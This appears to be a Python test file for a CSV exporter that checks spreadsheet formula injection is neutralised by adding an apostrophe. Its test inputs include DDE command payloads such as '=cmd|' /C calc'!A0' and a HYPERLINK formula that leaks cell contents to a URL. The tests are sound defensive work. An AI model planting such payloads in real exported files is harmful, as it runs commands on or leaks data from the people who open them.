"""No text that is exported as CSV becomes a formula, and figures stay figures."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path

import playwright
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.cli.whole_files import write_table
from workbench.csv_text import as_it_was, csv_of, csv_rows, safe_cell
from workbench.evaluation.tables import Columns, read_table
from workbench.outcomes import met_deployments

ROOT = Path(__file__).resolve().parents[2]
RECKONED = (
    "=1+1",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\ufeff=1",
    "\u200b@x",
    "'=1",
    "''+1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://x/?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-",
    "-5%",
    "--5",
)  # fmt: skip
PLAIN = ("", "High Street", "a=b", "-5", "+1.5", "1e-9", "-2.5E+10", "'tis", "5 of 9", "o'clock")
TEXTS = st.text(st.sampled_from("=+-@\t\r\n '\",;5e.ax\u2028\ufeff\uff1d"), max_size=9)
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("text", RECKONED)
def test_what_would_be_reckoned_gets_one_apostrophe(text: str) -> None:
    assert safe_cell(text, keep_breaks=True) == "'" + text
    assert as_it_was("'" + text) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert safe_cell(text) == text
    assert as_it_was(text) == text


@given(TEXTS)
def test_no_cell_begins_a_formula_and_each_is_read_back(text: str) -> None:
    kept = safe_cell(text, keep_breaks=True)
    assert as_it_was(kept) == text
    for cell in (kept, safe_cell(text)):
        begins = cell.lstrip(" \t\r\n\u2028\ufeff")[:1]
        is_number = re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", cell)
        assert is_number or not begins or begins not in SIGNS
        assert cell[:1] not in {"\t", "\r"}
    assert not set("\r\n\u2028") & set(safe_cell(text))


@given(st.lists(TEXTS, min_size=1, max_size=5), st.floats(allow_nan=False, allow_infinity=False))
def test_both_ways_of_writing_say_the_same(texts: list[str], number: float) -> None:
    frame = pl.DataFrame(
        {"=name": texts, "n": [number] * len(texts), "\tnone": [None] * len(texts)}
    )
    for text in (csv_of(frame), csv_rows(frame.columns, frame.rows())):
        heads, *rows = list(csv.reader(io.StringIO(text)))
        assert heads == ["'=name", "n", "'\tnone"]
        assert [row[0] for row in rows] == [safe_cell(one) for one in texts]
        assert all(float(row[1]) == number and not row[2] for row in rows)
        assert text.count("\n") == len(texts) + 1


def test_categories_are_texts_and_a_table_without_texts_stays() -> None:
    frame = pl.DataFrame({"kind": ["=x", "y"], "n": [-1, 2]})
    for kind in (pl.Categorical, pl.Enum(["=x", "y"])):
        assert csv_of(frame.with_columns(pl.col("kind").cast(kind))) == "kind,n\n'=x,-1\ny,2\n"
    assert csv_of(frame.select("n")) == "n\n-1\n2\n"
    assert csv_of(frame.clear()) == "kind,n\n"


@pytest.mark.parametrize("divider", [";", "\t"])
def test_no_cell_begins_behind_another_divider(divider: str) -> None:
    """A spreadsheet of a German office divides at `;`: what is behind it would be a formula."""
    text = f"High Street{divider}=1+1"
    frame = pl.DataFrame({text: [text, "", None], "n": [1.5, 2, 3]})
    for written in (csv_of(frame), csv_rows(frame.columns, frame.rows())):
        assert f'"{text}",' in written
        read = list(csv.reader(io.StringIO(written), delimiter=divider))
        assert not any(cell.startswith("=") for row in read for cell in row)
        assert [row[0] for row in csv.reader(io.StringIO(written))] == [text, text, "", ""]
    assert csv_of(frame).count('""') == 1, "an empty text is none that is missing"


def test_rows_hold_numbers_words_and_nothing() -> None:
    text = csv_rows(("a", "b"), [(-3, None), (True, "-3"), (2.5, "-3 of them")])
    assert text == "a,b\n-3,\ntrue,-3\n2.5,'-3 of them\n"
    with pytest.raises(ValueError, match="a row has 1 cells, and there are 2 headings"):
        csv_rows(("a", "b"), [(1,)])


def test_the_published_rows_are_written_without_a_formula_and_with_every_figure() -> None:
    records = met_deployments().with_columns(place=pl.lit("=cmd|' /C calc'!A0"))
    names = [name for name, kind in records.schema.items() if not kind.is_nested()]
    rows = list(csv.DictReader(io.StringIO(csv_of(records.select(names)))))
    assert len(rows) == len(records) >= 286
    assert {row["place"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    faces = [int(row["faces_seen"]) for row in rows if row["faces_seen"]]
    assert sum(faces) == records["faces_seen"].sum()


@given(st.lists(TEXTS.filter(lambda text: text.strip() and text.isprintable()), min_size=1))
def test_a_table_of_a_command_is_read_back_as_it_was(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    path = tmp_path_factory.mktemp("tables") / "table.csv"
    write_table(pl.DataFrame({"path": texts, "kind": ["probe"] * len(texts)}), path)
    _, rows = read_table(path, Columns(("path", "kind")))
    assert [row.values["path"] for row in rows] == [text.strip() for text in texts]


def test_a_place_that_is_called_like_a_colour_keeps_its_name() -> None:
    """`inTheme` of the charts takes names for colours where a colour is meant, and nowhere else."""
    source = (ROOT / "widgets/static/managers_chart.js").read_text("utf-8")
    marks = [
        line for line in source.splitlines() if line.startswith(("const NAMED_", "const asText"))
    ]
    body = source[source.index("function inTheme(") : source.index("function laidOut(")]
    part = {
        "x": ["@ink", "@first/0.5"], "name": "@ink", "title": {"text": "@line"},
        "marker": {"color": ["@ink", "@first/0.5"]}, "fillcolor": "@ink",
    }  # fmt: skip
    theme = {"ink": "#010203", "first": "#040506", "line": "#070809"}
    script = (
        f"const faded = (colour, part) => colour + '/' + part; {' '.join(marks)} {body};"
        f"process.stdout.write(JSON.stringify(inTheme({json.dumps(part)}, {json.dumps(theme)})))"
    )
    node = Path(playwright.__file__).parent / "driver" / "node"
    done = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True)
    assert json.loads(done.stdout) == part | {
        "marker": {"color": ["#010203", "#040506/0.5"]}, "fillcolor": "#010203",
    }  # fmt: skip


def test_the_pages_own_writing_does_the_same() -> None:
    """`csvOf` of the pages, which writes what is shown there, has the same rule."""
    source = (ROOT / "widgets/static/lab_parts.js").read_text("utf-8")
    body = source[source.index("function csvOf(") : source.index("function saveAs(")]
    cells = json.dumps([*RECKONED, *PLAIN, "a\r=b", "\u2028\t@"])
    script = f"{body}; process.stdout.write(csvOf(['h'], {cells}.map((c) => [c, 'x']), []))"
    # The Node.js that comes with the browser's driver: where there is a browser, it is there.
    node = Path(playwright.__file__).parent / "driver" / "node"
    done = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True)
    read = [row[0] for row in csv.reader(io.StringIO(done.stdout, newline=""))]
    assert read == ["h", *map(safe_cell, json.loads(cells))]
